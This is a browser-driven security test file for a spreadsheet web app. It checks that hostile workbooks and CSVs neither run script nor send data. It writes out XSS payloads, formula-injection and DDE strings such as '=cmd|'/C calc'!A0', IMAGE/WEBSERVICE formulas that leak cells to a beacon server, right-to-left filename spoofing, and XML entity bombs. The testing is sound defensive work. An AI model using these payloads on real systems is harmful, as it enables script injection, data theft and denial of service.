import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { visibleText } from 'visible-text';
import type { Site } from '../../src/cli/site';
import { readXlsx } from 'xlsx-patch/testing/read-xlsx';
import { saveXlsx } from 'xlsx-patch/testing/save-xlsx';
import { suiteBrowser } from './support/suite-browser';
import { attacks, bases, hostile, MARK } from './support/hostile-files';
import { startWorkbenchSite, WorkbenchPage } from './support/workbench-page';

jest.setTimeout(300_000);

/** The workbooks into which attacks are put, by the programs that made them. */
const BASES = bases();

/**
 * Files that were made to do harm, opened in the real page. What happened before: the colour of a chart was put into the page as
 * markup, so that `<srgbClr val='"/><image onerror=…'>` ran script there, which could read the stored key; `=IMAGE("http://…"&A1)` had
 * the browser ask that address, cells and all; and a name with U+202E in it was read from right to left.
 */
const browser = suiteBrowser();
let site: Site;
let workbench: WorkbenchPage;
/** A server that would be glad to hear from the page. */
let beacon: Server;
let heard: string[];
let address: string;

beforeAll(async () => {
  site = await startWorkbenchSite();
  beacon = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((listening) => beacon.listen(0, '127.0.0.1', listening));
  address = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await site?.close();
  await new Promise((closed) => beacon.close(closed));
});
beforeEach(async () => {
  heard = [];
  workbench = await WorkbenchPage.open(browser(), site);
  workbench.page.on('dialog', (dialog) => {
    workbench.failures.push(`A dialogue: ${dialog.message()}`);
    void dialog.dismiss();
  });
  workbench.page.context().on('page', () => workbench.failures.push('Another window was opened.'));
});
afterEach(async () => {
  await harmless();
  await workbench.close();
});

/** Nothing ran, nothing was sent, nothing stands in the page that could do either. */
async function harmless(): Promise<void> {
  const { page } = workbench;
  const found = await page.evaluate((mark) => {
    const elements = [...document.querySelectorAll('*')];
    const attributes = elements.flatMap((element) => [...element.attributes]);
    return {
      ran: [window, ...Array.from(window.frames)].map(
        (one) => (one as unknown as Record<string, unknown>)[mark],
      ),
      scripts: [...document.scripts].map(({ src }) => new URL(src, 'http://inline').pathname),
      handlers: attributes
        .filter(({ name }) => /^on/i.test(name))
        .map(({ name, value }) => `${name}=${value}`),
      foreign: elements
        .filter(({ localName }) =>
          /^(image|object|embed|applet|base|use|foreignobject|animate)$/.test(localName),
        )
        .map(({ outerHTML }) => outerHTML),
      polluted: Object.keys(Object.prototype),
    };
  }, MARK);
  expect(found.ran.filter((one) => one !== undefined)).toEqual([]);
  expect(found.scripts).toEqual(['/workbench.js']);
  expect(found.handlers).toEqual([]);
  expect(found.foreign).toEqual([]);
  expect(found.polluted).toEqual([]);
  expect(workbench.strays).toEqual([]);
  expect(heard).toEqual([]);
  expect(workbench.failures).toEqual([]);
}

/** Brings every sheet to the front, and clicks and points where links and errors are. */
async function lookAround(): Promise<void> {
  const { page } = workbench;
  for (const name of await workbench.sheetNames()) {
    await page.evaluate((name) => {
      const { book } = (window as unknown as { workbench: { book: Looked } }).workbench;
      const sheet = book.sheetByName(name);
      if (sheet && !sheet.hidden) book.active = sheet;
    }, name);
    const area = (await page.locator('#sheet').boundingBox())!;
    for (const [x, y] of [
      [90, 130],
      [90, 150],
      [200, 150],
    ] as const) {
      await page.mouse.move(area.x + x, area.y + y);
      await page.mouse.click(area.x + x, area.y + y);
    }
    await page.keyboard.down('Control');
    await page.mouse.click(area.x + 90, area.y + 150);
    await page.keyboard.up('Control');
    await page.evaluate(() => new Promise(requestAnimationFrame));
  }
}

interface Looked {
  active: unknown;
  sheetByName(name: string): { readonly hidden: boolean } | undefined;
}

test.each(Object.keys(BASES))(
  'a workbook of %s, an attack in every text and attribute: nothing runs, nothing is sent',
  async (name) => {
    const among = attacks(address);
    // Of other programs' workbooks, which hold much that is not read at all, each place meets three of them.
    for (let turn = 0; turn < among.length; turn += name === 'ours' ? 1 : 3) {
      const buffer = Buffer.from(hostile(BASES[name]!, among, turn, turn === 0));
      await workbench.openFile({ name: `${turn} <img src=x onerror=window.${MARK}=8>.xlsx`, buffer });
      await lookAround();
      await harmless();
    }
  },
);

test('the colour of a chart is a colour, or none; its names are texts', async () => {
  const [attack] = attacks(address);
  const parts = unzipSync(BASES['ours']!);
  for (const part of Object.keys(parts).filter((one) => one.startsWith('xl/charts/chart'))) {
    const xml = Buffer.from(parts[part]!).toString();
    const said = attack!.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    parts[part] = strToU8(
      xml.replace(/srgbClr val="[^"]*"/g, `srgbClr val="${said}"`).replace(/Title of \w+/g, said),
    );
  }
  await workbench.openFile({ name: 'chart.xlsx', buffer: Buffer.from(zipSync(parts)) });
  const { page } = workbench;
  await page.locator('.chart svg').nth(2).waitFor();
  const drawn = await page
    .locator('.chart *')
    .evaluateAll((elements) => elements.map((one) => one.localName));
  expect(new Set(drawn)).toEqual(new Set(['svg', 'rect', 'text', 'path', 'circle', 'polyline']));
  expect(await page.locator('.chart text').allTextContents()).toContain(attack);
  expect(
    await page.locator('.chart [fill]').evaluateAll((all) => all.map((one) => one.getAttribute('fill'))),
  ).toEqual(expect.arrayContaining(['#4472C4', '#ED7D31']));
});

test('formulas that reach outside are not run: from a file, typed, and in a file that is saved again', async () => {
  const formulas = [
    `=IMAGE("${address}/image?"&A1)`,
    `=WEBSERVICE("${address}/service?"&A1)`,
    `=_xlfn.WEBSERVICE(_xlfn.CONCAT("${address}/",ENCODEURL(A1)))`,
    `=cmd|'/C calc'!A0`,
    `='${address}/[book.xlsx]Sheet1'!A1`,
    `=IFERROR(IMAGE("${address}/inside?"&A1),"")&Leak`,
    `=LET(go,LAMBDA(x,IMAGE("${address}/lambda?"&x)),go(A1))`,
  ];
  const buffer = Buffer.from(
    saveXlsx({
      names: [{ name: 'Leak', refersTo: `=IMAGE("${address}/name")` }],
      sheets: [
        {
          name: 'Sheet1',
          cells: [
            { row: 0, column: 0, value: 'secret' },
            ...formulas.map((formula, index) => ({ row: index, column: 1, value: null, formula })),
          ],
          tables: [],
          conditionalFormats: [],
        },
      ],
    }),
  );
  await workbench.openFile({ name: 'formulas.xlsx', buffer });
  for (const row of [1, 2, 3, 4, 5])
    expect([row, (await workbench.entry(`B${row}`)).error]).toEqual([row, '#BLOCKED!']);
  expect(await workbench.entry('B1')).toMatchObject({
    message: expect.stringMatching(/IMAGE.*does not run/),
  });
  await lookAround();
  await workbench.type('D1', `=IMAGE("${address}/typed?"&A1)`);
  expect(await workbench.entry('D1')).toMatchObject({ error: '#BLOCKED!' });
  await workbench.type('D2', `=HYPERLINK("${address}/link?"&A1,"read me")`);
  expect(await workbench.entry('D2')).toMatchObject({ value: 'read me' });
  const box = (await workbench.page.locator('#sheet').boundingBox())!;
  await workbench.page.keyboard.down('Control');
  await workbench.page.mouse.click(box.x + 330, box.y + 150);
  await workbench.page.keyboard.up('Control');
});

test('a .csv is data: what begins like a formula in it is text, in the sheet, in its report and in the saved file', async () => {
  const cells = [
    `=IMAGE("${address}/csv?"&A2)`,
    `=cmd|' /C calc'!A0`,
    '+1+cmd',
    '-2+3+cmd',
    '@SUM(1+9)',
    '=1+1',
  ];
  const csv = [
    'Ticker,Description,Quantity',
    ...cells.map((cell, at) => `AAPL,"${cell.replaceAll('"', '""')}",${at}`),
  ];
  await workbench.drop('broker.csv', `${csv.join('\n')}\n=EVIL(),"<img src=x onerror=window.${MARK}=9>",1\n`);
  await workbench.holds('B2', cells[0]);
  expect(await workbench.page.locator('#message').textContent()).toMatch(/^4 cells .* are text/);
  await workbench.page.locator('#ribbon button', { hasText: 'Screen portfolio' }).click();
  await workbench.pane.locator('#notice.done').waitFor();
  const { bytes } = await workbench.save();
  const { sheets } = readXlsx(bytes);
  expect(sheets[0]!.cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
  expect(
    sheets[0]!.cells.filter(({ column, row }) => column === 1 && row > 0).map(({ value }) => value),
  ).toEqual([...cells, `<img src=x onerror=window.${MARK}=9>`]);
  const reports = sheets.slice(1).flatMap((sheet) => sheet.cells);
  expect(reports.filter(({ formula }) => /IMAGE|cmd|EVIL|SUM\(1/.test(formula ?? ''))).toEqual([]);
  expect(reports.map(({ value }) => value)).toContain('=EVIL()');
});

test('unseen characters are shown as marks wherever the page says them, and the cells keep them', async () => {
  const turned = 'AAPL\u202E\u2067gnp.exe\u200B';
  await workbench.close();
  workbench = await WorkbenchPage.open(browser(), site);
  await workbench.page.evaluate(() => {
    const { fillText } = CanvasRenderingContext2D.prototype;
    const drawn: string[] = [];
    Object.assign(window, { drawn });
    CanvasRenderingContext2D.prototype.fillText = function (text, ...rest) {
      drawn.push(text);
      return fillText.call(this, text, ...rest);
    };
  });
  const buffer = Buffer.from(
    saveXlsx({
      names: [],
      sheets: [
        {
          name: 'Turned\u202Eteehs',
          cells: [
            { row: 0, column: 0, value: 'Ticker' },
            { row: 0, column: 1, value: 'Name' },
            { row: 1, column: 0, value: 'ZZZZ' },
            { row: 1, column: 1, value: turned },
          ],
          tables: [],
          conditionalFormats: [],
          charts: [
            {
              name: 'C',
              type: 'pie',
              range: 'D2:H12',
              title: turned,
              series: [{ name: turned, values: '=$A$2:$A$2' }],
            },
          ],
        },
      ],
    }),
  );
  await workbench.openFile({ name: 'turned\u202Excod.xlsx', buffer });
  await workbench.page.locator('.chart svg').waitFor();
  await workbench.page.locator('#ribbon button', { hasText: 'Screen portfolio' }).click();
  await workbench.pane.locator('#notice.done').waitFor();
  const { page, pane } = workbench;
  const drawn = await page.evaluate(() => (window as unknown as { drawn: string[] }).drawn);
  expect(drawn.filter((text) => visibleText(text) !== text)).toEqual([]);
  expect(drawn.join('')).toContain(visibleText(turned));
  for (const frame of [page.mainFrame(), pane]) {
    const said = await frame.evaluate(() => document.body.textContent);
    expect(visibleText(said!)).toBe(said);
  }
  expect(await page.locator('body').textContent()).toContain('Turned[U+202E]teehs');
  expect(await page.locator('#file-name').textContent()).toBe('turned[U+202E]xcod.xlsx');
  expect(await page.locator('.chart svg').count()).toBeGreaterThan(0);
  expect(await workbench.entry('B2', 'Turned\u202Eteehs')).toMatchObject({ value: turned });
  // In the report the name stands as it is seen.
  const { sheets } = readXlsx((await workbench.save()).bytes);
  const texts = sheets.slice(1).flatMap(({ cells }) => cells.map(({ value }) => String(value)));
  expect(texts).toContain(visibleText(turned));
  expect(texts.filter((text) => visibleText(text) !== text)).toEqual([]);
});

test('entities of a document type, and those of another file, are refused with a sentence', async () => {
  const bomb =
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>';
  const external = `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY c SYSTEM "${address}/entity">]>`;
  for (const head of [bomb, external]) {
    for (const part of ['xl/workbook.xml', 'xl/worksheets/sheet1.xml', 'xl/charts/chart1.xml']) {
      const parts = unzipSync(BASES['ours']!);
      const xml = Buffer.from(parts[part]!).toString();
      parts[part] = strToU8(head + xml.replace(/^<\?xml[^>]*\?>/, '').replace(/Title of Round|Data/, '&c;'));
      await workbench.drop('bomb.xlsx', Buffer.from(zipSync(parts)));
      await workbench.page.locator('#message', { hasText: `${part} cannot be read` }).waitFor();
    }
  }
});
